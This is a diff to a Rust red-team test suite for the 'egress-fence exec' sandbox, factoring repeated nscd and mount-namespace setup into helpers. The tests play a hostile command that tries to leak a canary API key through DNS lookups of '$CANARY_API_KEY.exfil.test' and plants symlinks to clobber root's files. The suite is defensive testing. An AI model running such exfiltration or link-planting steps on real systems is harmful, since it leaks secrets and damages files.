@@ -1,6 +1,8 @@
 //! Red team round 4 on `egress-fence exec`: CMD (as `--user nobody`, and as `--user root`
 //! without capabilities) against the canary, pasta and what exec leaves to the filesystem.
 
+use std::process::{Command, Output};
+
 use crate::common::exec::*;
 use crate::common::*;
 
@@ -15,6 +17,81 @@ fn wildcard_policy(w: &World) -> String {
         .to_str()
         .expect("utf-8 path")
         .to_string()
+}
+
+/// A policy also allowing UDP to 192.0.2.10:9999, beside [`policy_text`]'s own.
+fn udp_policy(w: &World) -> std::path::PathBuf {
+    let text = policy_text().replace(
+        "allow:\n",
+        "allow:\n  - cidr: 192.0.2.10/32\n    ports: [9999]\n    protocol: udp\n",
+    );
+    w.write_file("udp.yaml", &text)
+}
+
+/// Gives `cmd` the environment exec's command line `inner` sets (the state directory, no
+/// `SUDO_USER`), for a wrapper that runs `inner`.
+fn with_the_env_of(cmd: &mut Command, inner: &Command) {
+    for (key, value) in inner.get_envs() {
+        match value {
+            Some(value) => cmd.env(key, value),
+            None => cmd.env_remove(key),
+        };
+    }
+}
+
+/// `unshare -m --propagation private sh -c SCRIPT sh INNER...`: SCRIPT sets up what the test
+/// plays of the host in a mount namespace of the test's own (nothing it mounts reaches the
+/// machine's) and runs exec's command line `inner` as `"$@"`, with its environment.
+fn in_a_mount_namespace_of_its_own(script: &str, inner: &Command) -> Command {
+    let mut cmd = Command::new("unshare");
+    cmd.args(["-m", "--propagation", "private", "sh", "-c", script, "sh"])
+        .arg(inner.get_program())
+        .args(inner.get_args())
+        .stdin(std::process::Stdio::null());
+    with_the_env_of(&mut cmd, inner);
+    cmd
+}
+
+/// Runs exec's command line `inner` where [`FAKE_NSCD`] plays the host's nscd: in a mount
+/// namespace of the test's own, the host's /run kept only for /run/netns (exec names its
+/// namespace there, and the world's sandbox is named there), with a /run/nscd of the test's
+/// own. The script starts the nscd (its pid in `$P`, killed at the end) and goes on with
+/// `rest`, which runs `inner` as `"$@"`. Returns the outcome and how a failing test shows it
+/// (with the nscd's log).
+fn exec_beside_a_hosts_nscd(w: &World, inner: &Command, rest: &str) -> (Output, String) {
+    let nscd = w.write_file("fake_nscd.py", FAKE_NSCD);
+    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
+    let script = format!(
+        r#"set -e
+mount --rbind /run "$D/run"
+mount -t tmpfs tmpfs /run
+mkdir /run/netns /run/nscd
+mount --rbind "$D/run/netns" /run/netns
+ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} > "$D/nscd.log" 2>&1 &
+P=$!
+trap "kill $P" EXIT
+for i in $(seq 100); do test -S /run/nscd/socket && break; sleep 0.05; done
+test -S /run/nscd/socket
+set +e
+{rest}"#
+    );
+    let out = in_a_mount_namespace_of_its_own(&script, inner)
+        .env("D", w.dir())
+        .env("SB", w.sandbox_name())
+        .env("NSCD", &nscd)
+        .output()
+        .expect("run exec beside a host's nscd");
+    let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
+    let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
+    (out, shown)
+}
+
+/// The names the world's resolver was asked that start with the canary's token.
+fn canary_tokens_asked(w: &World) -> Vec<String> {
+    w.dns_queries()
+        .into_iter()
+        .filter(|n| n.to_ascii_lowercase().starts_with("ck_live_"))
+        .collect()
 }
 
 /// CMD asks its token's random part in pieces of 11 characters (one fewer than a fragment
@@ -149,11 +226,8 @@ print('userns-tried')
 /// a tmpfs over /run in a mount namespace of the test's own.
 #[test]
 fn cmds_names_do_not_resolve_through_the_hosts_nscd() {
-    use std::process::Command;
     let w = World::new();
     let policy = setup(&w);
-    let nscd = w.write_file("fake_nscd.py", FAKE_NSCD);
-    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
     let inner = exec_command(
         &w,
         &policy,
@@ -163,38 +237,7 @@ fn cmds_names_do_not_resolve_through_the_hosts_nscd() {
              python3 -c \"$(cat <<'PY'\n{UNHIDE}\nPY\n)\"; exit 0"
         ),
     );
-    // The host's /run kept only for /run/netns (exec names its namespace there, and the
-    // world's sandbox is named there), with a /run/nscd of the test's own.
-    let outer = format!(
-        r#"set -e
-mount --rbind /run "$D/run"
-mount -t tmpfs tmpfs /run
-mkdir /run/netns /run/nscd
-mount --rbind "$D/run/netns" /run/netns
-ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} > "$D/nscd.log" 2>&1 &
-trap "kill $!" EXIT
-for i in $(seq 100); do test -S /run/nscd/socket && break; sleep 0.05; done
-test -S /run/nscd/socket
-set +e
-"$@""#
-    );
-    let mut cmd = Command::new("unshare");
-    cmd.args(["-m", "--propagation", "private", "sh", "-c", &outer, "sh"])
-        .arg(inner.get_program())
-        .args(inner.get_args())
-        .env("D", w.dir())
-        .env("SB", w.sandbox_name())
-        .env("NSCD", &nscd)
-        .stdin(std::process::Stdio::null());
-    for (key, value) in inner.get_envs() {
-        match value {
-            Some(value) => cmd.env(key, value),
-            None => cmd.env_remove(key),
-        };
-    }
-    let out = cmd.output().expect("run exec beside a host's nscd");
-    let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
-    let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
+    let (out, shown) = exec_beside_a_hosts_nscd(&w, &inner, r#""$@""#);
     let text = stdout_of(&out);
     assert!(
         text.contains("getent=") && text.contains("userns-tried"),
@@ -205,11 +248,7 @@ set +e
     for got in ["unmounted-hider", "revealed-socket"] {
         assert!(!text.contains(got), "{got}\n{shown}");
     }
-    let leaked: Vec<String> = w
-        .dns_queries()
-        .into_iter()
-        .filter(|n| n.to_ascii_lowercase().starts_with("ck_live_"))
-        .collect();
+    let leaked = canary_tokens_asked(&w);
     assert!(
         leaked.is_empty(),
         "CMD's question left through the host's nscd: {leaked:?}\n{shown}"
@@ -291,26 +330,22 @@ fn the_report_is_never_written_through_a_linked_directory() {
     std::fs::write(&victim, "root's own\n").expect("root's file");
 
     // The earlier run: CMD leaves `out` pointing at root's directory.
-    let plant = exec_command(
+    let plant = exec_in(
         &w,
+        &work,
         &policy,
         &["--user", "nobody"],
         &format!("ln -s {} out && echo planted", victims.display()),
-    )
-    .current_dir(&work)
-    .output()
-    .expect("run egress-fence exec");
+    );
     assert!(stdout_of(&plant).contains("planted"), "{}", show(&plant));
 
-    let out = exec_command(
+    let out = exec_in(
         &w,
+        &work,
         &policy,
         &["--user", "nobody", "--report", "out/report.json"],
         "exit 0",
-    )
-    .current_dir(&work)
-    .output()
-    .expect("run egress-fence exec");
+    );
     assert_eq!(
         std::fs::read_to_string(&victim).expect("the victim"),
         "root's own\n",
@@ -330,11 +365,7 @@ fn exec_reads_pastas_capture_in_bounded_memory() {
     let w = World::new();
     setup(&w);
     // UDP to a port nothing listens on: every datagram is captured, none is kept.
-    let text = policy_text().replace(
-        "allow:\n",
-        "allow:\n  - cidr: 192.0.2.10/32\n    ports: [9999]\n    protocol: udp\n",
-    );
-    let policy = w.write_file("udp.yaml", &text);
+    let policy = udp_policy(&w);
     let policy = policy.to_str().expect("utf-8 path");
     let inner = exec_command(
         &w,
@@ -361,12 +392,7 @@ print('sent')
     .arg(inner.get_program())
     .args(inner.get_args())
     .stdin(std::process::Stdio::null());
-    for (key, value) in inner.get_envs() {
-        match value {
-            Some(value) => cmd.env(key, value),
-            None => cmd.env_remove(key),
-        };
-    }
+    with_the_env_of(&mut cmd, &inner);
     let out = cmd.output().expect("run exec");
     let text = stdout_of(&out);
     assert!(text.contains("sent"), "{}", show(&out));
@@ -400,11 +426,7 @@ fn an_outside_host_does_not_get_answers_through_a_udp_port_pasta_bound() {
     use std::time::Duration;
     let w = World::new();
     setup(&w);
-    let text = policy_text().replace(
-        "allow:\n",
-        "allow:\n  - cidr: 192.0.2.10/32\n    ports: [9999]\n    protocol: udp\n",
-    );
-    let policy = w.write_file("udp.yaml", &text);
+    let policy = udp_policy(&w);
     let script = r#"python3 -c "
 import socket
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -559,7 +581,6 @@ fn the_canary_trips_on_the_reversed_token_in_base32_and_base64() {
 /// so that no other run on this machine meets the link, and a tmpfs as the host's mount.)
 #[test]
 fn the_next_runs_cleanup_does_not_unmount_what_cmds_link_names() {
-    use std::process::Command;
     let w = World::new();
     let policy = setup(&w);
     std::fs::create_dir(w.dir().join("netns")).expect("a directory for /run/netns");
@@ -603,12 +624,7 @@ exit 0"#,
         .env("SB", w.sandbox_name())
         .env("VICTIM", w.dir().join("mnt"))
         .stdin(std::process::Stdio::null());
-    for (key, value) in plant.get_envs() {
-        match value {
-            Some(value) => cmd.env(key, value),
-            None => cmd.env_remove(key),
-        };
-    }
+    with_the_env_of(&mut cmd, &plant);
     let out = cmd.output().expect("run exec twice");
     let text = stdout_of(&out);
     assert!(text.contains("planted"), "{}", show(&out));
@@ -627,7 +643,6 @@ exit 0"#,
 #[test]
 fn a_tripped_canary_exits_99_even_when_the_report_cannot_be_written() {
     use std::os::unix::fs::PermissionsExt;
-    use std::process::Command;
     let w = World::new();
     let policy = setup(&w);
     std::fs::set_permissions(w.dir(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
@@ -654,19 +669,8 @@ mount -t tmpfs -o size=1m tmpfs "$SMALL"
 chown nobody "$SMALL"
 set +e
 "$@""#;
-    let mut cmd = Command::new("unshare");
-    cmd.args(["-m", "--propagation", "private", "sh", "-c", script, "sh"])
-        .arg(inner.get_program())
-        .args(inner.get_args())
+    let out = in_a_mount_namespace_of_its_own(script, &inner)
         .env("SMALL", &small)
-        .stdin(std::process::Stdio::null());
-    for (key, value) in inner.get_envs() {
-        match value {
-            Some(value) => cmd.env(key, value),
-            None => cmd.env_remove(key),
-        };
-    }
-    let out = cmd
         .output()
         .expect("run exec with its report on a small tmpfs");
     assert!(stdout_of(&out).contains("asked"), "{}", show(&out));
@@ -771,11 +775,8 @@ except OSError as e:
 /// exec. The directory must be hidden (an empty tmpfs over it), not the file.
 #[test]
 fn a_restarted_hosts_nscd_is_still_hidden_from_cmd() {
-    use std::process::Command;
     let w = World::new();
     let policy = setup(&w);
-    let nscd = w.write_file("fake_nscd.py", FAKE_NSCD);
-    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
     let inner = exec_command(
         &w,
         &policy,
@@ -783,18 +784,9 @@ fn a_restarted_hosts_nscd_is_still_hidden_from_cmd() {
         "sleep 4; getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; \
          echo \"getent=$?\"; exit 0",
     );
-    let outer = format!(
-        r#"set -e
-mount --rbind /run "$D/run"
-mount -t tmpfs tmpfs /run
-mkdir /run/netns /run/nscd
-mount --rbind "$D/run/netns" /run/netns
-ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} > "$D/nscd.log" 2>&1 &
-P=$!
-for i in $(seq 100); do test -S /run/nscd/socket && break; sleep 0.05; done
-test -S /run/nscd/socket
-set +e
-"$@" &
+    // The nscd restarts (its socket removed and bound anew) while CMD runs.
+    let rest = format!(
+        r#""$@" &
 E=$!
 sleep 2
 kill $P; wait $P; rm -f /run/nscd/socket
@@ -803,29 +795,9 @@ P=$!
 trap "kill $P" EXIT
 wait $E"#
     );
-    let mut cmd = Command::new("unshare");
-    cmd.args(["-m", "--propagation", "private", "sh", "-c", &outer, "sh"])
-        .arg(inner.get_program())
-        .args(inner.get_args())
-        .env("D", w.dir())
-        .env("SB", w.sandbox_name())
-        .env("NSCD", &nscd)
-        .stdin(std::process::Stdio::null());
-    for (key, value) in inner.get_envs() {
-        match value {
-            Some(value) => cmd.env(key, value),
-            None => cmd.env_remove(key),
-        };
-    }
-    let out = cmd.output().expect("run exec beside a host's nscd");
-    let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
-    let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
+    let (out, shown) = exec_beside_a_hosts_nscd(&w, &inner, &rest);
     assert!(stdout_of(&out).contains("getent="), "{shown}");
-    let leaked: Vec<String> = w
-        .dns_queries()
-        .into_iter()
-        .filter(|n| n.to_ascii_lowercase().starts_with("ck_live_"))
-        .collect();
+    let leaked = canary_tokens_asked(&w);
     assert!(
         leaked.is_empty(),
         "CMD's question left through the restarted host's nscd: {leaked:?}\n{shown}"
@@ -839,7 +811,6 @@ wait $E"#
 /// the link points, and CMD's names still resolve through the guard.
 #[test]
 fn cmd_resolves_through_the_guard_where_resolv_conf_links_into_resolveds_directory() {
-    use std::process::Command;
     let w = World::new();
     let policy = setup(&w);
     std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
@@ -865,19 +836,8 @@ ln -s ../run/systemd/resolve/stub-resolv.conf "$D/etc/resolv.conf"
 mount --bind "$D/etc" /etc
 set +e
 "$@""#;
-    let mut cmd = Command::new("unshare");
-    cmd.args(["-m", "--propagation", "private", "sh", "-c", outer, "sh"])
-        .arg(inner.get_program())
-        .args(inner.get_args())
+    let out = in_a_mount_namespace_of_its_own(outer, &inner)
         .env("D", w.dir())
-        .stdin(std::process::Stdio::null());
-    for (key, value) in inner.get_envs() {
-        match value {
-            Some(value) => cmd.env(key, value),
-            None => cmd.env_remove(key),
-        };
-    }
-    let out = cmd
         .output()
         .expect("run exec beside a host's systemd-resolved");
     eprintln!("{}", show(&out));
